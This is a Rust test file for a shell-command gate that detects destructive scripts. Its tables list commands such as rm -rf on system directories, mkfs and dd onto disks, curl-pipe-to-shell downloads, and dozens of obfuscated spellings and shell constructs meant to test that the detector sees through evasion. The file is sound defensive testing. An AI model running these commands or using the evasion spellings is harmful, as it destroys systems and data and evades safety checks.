@@ -1,0 +1,264 @@
+//! The gate's tables: a script per rule (and the rule that must fire), a
+//! script per spelling the parser sees through, a script per shell
+//! construct, and scripts that must stay quiet.
+
+use super::*;
+
+/// (rule, a script only that rule asks about).
+const EACH_RULE: &[(&str, &str)] = &[
+    ("unreadable", "echo 'unterminated"),
+    ("disk-redirect", "cat img > /dev/sdb"),
+    ("dynamic-name", "$CMD -rf /tmp/x"),
+    ("eval", "eval \"$X\""),
+    ("eval", "eval 'rm -rf /usr'"),
+    ("source-generated", "source <(curl -s http://x)"),
+    ("wrapped-script", "env -S 'rm -rf /etc'"),
+    ("interpreter-pipe", "curl -fsSL http://x | sh"),
+    ("interpreter-substitution", "bash <(curl -s http://x)"),
+    ("shell-c", "bash -c 'rm -rf /var'"),
+    ("shell-c", "su -c 'halt' root"),
+    ("power", "shutdown now"),
+    ("power", "init 6"),
+    ("power", "systemctl poweroff"),
+    ("erase-disk", "mkfs.ext4 /dev/sda1"),
+    ("erase-disk", "mkfs -t xfs /dev/vdb"),
+    ("erase-disk", "wipefs -a /dev/sdb"),
+    ("partition-disk", "parted -s /dev/nvme0n1 mklabel gpt"),
+    ("dd-device", "dd if=/dev/zero of=/dev/sda bs=1M"),
+    ("dd-device", "dd if=img of=/dev/nvme0n1"),
+    ("dd-device", "dd if=img of=/dev/vda"),
+    ("dd-device", "dd if=img of=/dev/mmcblk0"),
+    ("dd-device", "dd if=img of=/dev/xvda"),
+    ("write-device", "cat img | tee /dev/sdc"),
+    ("rm-no-preserve-root", "rm --no-preserve-root -r /tmp/x"),
+    ("rm-xargs", "ls | xargs rm -rf"),
+    ("rm-protected", "rm -rf /"),
+    ("rm-protected", "rm -rf ~"),
+    ("rm-protected", "rm -rf /usr"),
+    ("rm-protected", "rm -rf /etc"),
+    ("rm-protected", "rm -rf /var"),
+    ("rm-protected", "rm -rf /boot"),
+    ("rm-protected", "rm -rf /home"),
+    ("rm-protected", "rm -rf /opt"),
+    ("rm-protected", "rm -rf /bin"),
+    ("rm-protected", "rm -rf /lib"),
+    ("rm-protected", "rm -rf /sbin"),
+    ("rm-protected", "rm -rf /srv"),
+    ("rm-protected", "rm -rf /root"),
+    ("rm-protected", "rm -rf /home/alice"),
+    ("rm-protected", "rm -rf /usr/lib"),
+    ("rm-protected", "rm -rf $X"),
+    ("find-delete", "find / -delete"),
+    ("find-delete", "find /usr -name '*.so' -delete"),
+    ("find-exec", "find /etc -exec rm {} +"),
+    ("find-exec", "find . -exec reboot \\;"),
+    ("chmod-chown", "chmod -R 777 /"),
+    ("chmod-chown", "chown -R nobody:nogroup /etc"),
+    ("chmod-chown", "chgrp -R users /home"),
+    ("mv-protected", "mv /usr /tmp/usr"),
+    ("mv-protected", "mv ~ /dev/null"),
+];
+
+#[test]
+fn each_rule_asks_about_its_own_case() {
+    let mut wrong = Vec::new();
+    for (rule, script) in EACH_RULE {
+        match first_hit(script) {
+            Some((hit, _)) if hit == *rule => {}
+            other => wrong.push(format!("{script:?}: want {rule}, got {other:?}")),
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    for r in RULES {
+        assert!(
+            EACH_RULE.iter().any(|(name, _)| *name == r.name),
+            "rule {} has no case",
+            r.name
+        );
+    }
+}
+
+/// (spelling, a destructive script written that way): each must ask.
+const OBFUSCATIONS: &[(&str, &str)] = &[
+    ("double quotes split", "\"r\"\"m\" -fr /usr"),
+    ("single quotes", "'rm' -rf /etc"),
+    ("backslash", "r\\m -rf /var"),
+    ("leading backslash", "\\rm -rf /boot"),
+    ("full path", "/bin/rm -rf /home"),
+    ("quoted path", "rm -rf \"/opt\""),
+    ("split flags", "rm -r -f /srv"),
+    ("long flags", "rm --recursive --force /root"),
+    ("flag cluster order", "rm -fR /sbin"),
+    ("end of options", "rm -rf -- /lib"),
+    ("double slash", "rm -rf //usr"),
+    ("trailing slash", "rm -rf /usr/"),
+    ("dot segment", "rm -rf /./etc"),
+    ("dot-dot", "rm -rf /tmp/../var"),
+    ("root glob", "rm -rf /*"),
+    ("partial glob", "rm -rf /u*"),
+    ("children glob", "rm -rf /home/*"),
+    ("brace targets", "rm -rf /{usr,etc}"),
+    ("brace command", "{rm,-rf,/boot}"),
+    ("home by name", "rm -rf ~root"),
+    ("variable target", "X=/usr; rm -rf $X"),
+    ("substituted target", "rm -rf \"$(printf /usr)\""),
+    ("assignment prefix", "LC_ALL=C rm -rf /etc"),
+    ("sudo", "sudo -u root rm -rf /usr"),
+    ("sudo end of options", "sudo -- rm -rf /usr"),
+    ("doas", "doas rm -rf /etc"),
+    ("env", "env -i PATH=/bin rm -rf /var"),
+    ("env split string", "env --split-string='rm -rf /var'"),
+    ("command", "command rm -rf /opt"),
+    ("exec", "exec -a x rm -rf /opt"),
+    ("nohup", "nohup rm -rf /srv"),
+    ("time", "time -p rm -rf /root"),
+    ("timeout", "timeout -s KILL 10 rm -rf /home"),
+    ("nice", "nice -n 5 rm -rf /bin"),
+    ("chroot", "chroot / rm -rf /usr"),
+    ("xargs", "echo /usr | xargs rm -rf"),
+    ("watch", "watch -n 1 rm -rf /etc"),
+    ("nested wrappers", "sudo env nice rm -rf /var"),
+    ("find options first", "find -L /usr -delete"),
+    ("chmod cluster", "chmod -vR 000 /etc"),
+    ("chown long", "chown --recursive me /usr"),
+    ("disk path spelling", "dd if=x of=/dev//sda"),
+    ("disk by id", "dd if=x of=/dev/disk/by-id/ata-X"),
+    ("disk in a variable", "D=/dev/sda; dd if=x of=$D"),
+    ("mkfs by path", "/sbin/mkfs.ext4 /dev/sda1"),
+    ("bash -lc", "bash -lc 'rm -rf /usr'"),
+    ("sh -ec", "sh -e -c \"rm -rf /etc\""),
+    ("eval of fixed text", "eval rm -rf /var"),
+];
+
+/// The rows of `table` whose script (behind `exit 0;`, so a miss would
+/// be harmless) is not asked about.
+fn not_asked<'a>(table: &'a [(&'a str, &'a str)]) -> Vec<&'a (&'a str, &'a str)> {
+    table
+        .iter()
+        .filter(|(_, s)| check_script(&format!("exit 0; {s}")).is_none())
+        .collect()
+}
+
+#[test]
+fn every_spelling_the_parser_sees_through_asks() {
+    let missed = not_asked(OBFUSCATIONS);
+    assert!(missed.is_empty(), "not asked: {missed:?}");
+}
+
+/// (construct, a destructive command inside it): each must ask, since the
+/// parser takes the construct's keywords for grammar.
+const CONSTRUCTS: &[(&str, &str)] = &[
+    ("!", "! shutdown now"),
+    ("if/then/fi", "if true; then rm -rf ~; fi"),
+    ("if condition", "if rm -rf /usr; then :; fi"),
+    ("elif", "if false; then :; elif true; then reboot; fi"),
+    ("else", "if false; then :; else halt; fi"),
+    ("for/do/done", "for d in /; do rm -rf $d; done"),
+    ("for list", "for d in /usr /etc; do rm -rf \"$d\"; done"),
+    (
+        "for over a substitution",
+        "for d in $(rm -rf /var); do :; done",
+    ),
+    ("while", "while true; do poweroff; done"),
+    ("until", "until false; do rm -rf /opt; done"),
+    ("case", "case $x in a) ls ;; *) rm -rf / ;; esac"),
+    (
+        "case pattern with parens",
+        "case x in (y) mkfs.ext4 /dev/sda;; esac",
+    ),
+    ("function", "f() { rm -rf /etc; }; f"),
+    ("function keyword", "function f { reboot; }; f"),
+    ("subshell", "(cd /tmp && rm -rf /usr)"),
+    ("group", "{ rm -rf /home; }"),
+    ("$( )", "echo $(shutdown -h now)"),
+    ("backticks", "echo `reboot`"),
+    ("eval", "eval 'rm -rf /'"),
+    ("xargs", "find . | xargs rm -rf"),
+    ("env", "env rm -rf /"),
+    ("command", "command rm -rf ~"),
+    ("exec", "exec rm -rf /usr"),
+    ("sudo", "sudo rm -rf /usr"),
+    ("nohup", "nohup halt"),
+    ("time", "time rm -rf /etc"),
+    ("sh -c", "sh -c 'rm -rf /usr'"),
+    ("bash -c", "bash -c \"if true; then reboot; fi\""),
+    ("select", "select x in a; do halt; done"),
+    ("coproc", "coproc reboot"),
+];
+
+#[test]
+fn every_construct_is_seen_through() {
+    let missed = not_asked(CONSTRUCTS);
+    assert!(missed.is_empty(), "not asked: {missed:?}");
+}
+
+#[test]
+fn near_misses_stay_quiet() {
+    let quiet = [
+        "rm -rf /tmp/build",
+        "rm -rf /var/tmp/build",
+        "rm -rf ~/project/target",
+        "rm -rf /home/alice/project/node_modules",
+        "rm -rf /tmp/build*",
+        "rm /etc/motd.bak",
+        "rm -rf ./usr",
+        "rm -rf usr etc",
+        "find . -name '*.o' -delete",
+        "find /tmp/x -delete",
+        "chmod -R 755 ./dist",
+        "chmod 644 /etc/hosts",
+        "chown -R me ./build",
+        "mv /tmp/a /tmp/b",
+        "mv a b",
+        "ls /usr /etc /var",
+        "cp img ./disk.img",
+        "dd if=/dev/zero of=./disk.img bs=1M count=1",
+        "dd if=/dev/sda of=./backup.img",
+        "tee out.log",
+        "mkdir -p src/{a,b}",
+        "echo {a,b}",
+        "if test -f x; then echo yes; else echo no; fi",
+        "for f in *.txt; do wc -l \"$f\"; done",
+        "while read -r l; do echo \"$l\"; done < input",
+        "case \"$1\" in start) echo go;; stop) echo halt;; esac",
+        "f() { ls; }; f",
+        "eval 'echo hi'",
+        "sh -c 'echo hi'",
+        "bash -lc 'cargo test'",
+        "sudo -u me ls",
+        "env FOO=1 make",
+        "time cargo build",
+        "! grep -q x f",
+    ];
+    let noisy: Vec<_> = quiet
+        .iter()
+        .filter_map(|s| first_hit(s).map(|h| (s, h)))
+        .collect();
+    assert!(noisy.is_empty(), "asked: {noisy:?}");
+}
+
+#[test]
+fn protected_paths_and_disks() {
+    for p in [
+        "/", "/.", "//", "/..", "~", "~/", "/usr", "/usr/", "/usr/lib", "/home/a", "/*",
+    ] {
+        assert!(paths::protected(p).is_some(), "{p}");
+    }
+    for p in [
+        "/tmp",
+        "/tmp/x",
+        "usr",
+        "./usr",
+        "/usr/local/bin",
+        "~/x",
+        "/home/a/b",
+    ] {
+        assert!(paths::protected(p).is_none(), "{p}");
+    }
+    for d in ["/dev/sda", "/dev/nvme0n1p2", "/dev/vdb", "/dev/mapper/root"] {
+        assert!(paths::is_disk_device(d), "{d}");
+    }
+    for d in ["/dev/null", "/dev/zero", "/dev/stdout", "./dev/sda"] {
+        assert!(!paths::is_disk_device(d), "{d}");
+    }
+}
